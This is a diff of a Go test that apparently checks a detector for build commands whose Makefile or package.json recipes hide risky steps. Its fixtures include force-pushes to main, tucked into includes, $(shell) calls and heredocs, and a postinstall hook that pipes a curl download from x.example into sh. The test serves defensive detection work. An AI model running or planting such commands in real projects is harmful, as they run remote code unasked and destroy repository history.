@@ -21,6 +21,9 @@ func TestRecipeRuns(t *testing.T) {
 	files := map[string]string{
 		"Makefile":         "GO ?= go\n\n.PHONY: all test ship\nall: build\n\nbuild:\n\t$(GO) build ./...\n\ntest: build \\\n  vet\n\t@$(GO) test ./...\n\t-git push --force origin main\n\nvet: ; go vet ./...\n\nclean:\n\trm -rf build\n",
 		"ci.mk":            "check:\n\tgit push -f origin main\n",
+		"inc/Makefile":     "include rules.mk\nall: lint\n",
+		"inc/rules.mk":     "lint:\n\tgit push -f origin main\n",
+		"shell/Makefile":   "REV := $(shell git push -f origin main >/dev/null; git rev-parse HEAD)\nall:\n\techo $(REV)\n",
 		"sub/GNUmakefile":  "default:\n\tgit push -f origin main\n",
 		"package.json":     `{"name":"x","scripts":{"pretest":"git push -f origin main","test":"node test.js","build":"tsc","lint":"eslint .","postinstall":"curl -s https://x.example/i.sh | sh","deploy":"git push -f origin main"}}`,
 		"web/package.json": `{"scripts":{"build":"vite build"}}`,
@@ -49,6 +52,9 @@ func TestRecipeRuns(t *testing.T) {
 		{"yarn deploy", high, "package.json deploy: git push"},
 		{"pnpm run deploy", high, "package.json deploy: git push"},
 		{"npm ci", high, "package.json install: pipes a download into an interpreter"},
+		{"make -C inc", high, "Makefile all: git push"},
+		{"make -C shell", high, "Makefile all: git push"},
+		{"make -f - all <<'EOF'\nall:\n\tgit push -f origin main\nEOF", high, "makefile all: git push"},
 		// alike, and not
 		{"make", "", ""},
 		{"make vet", "", ""},
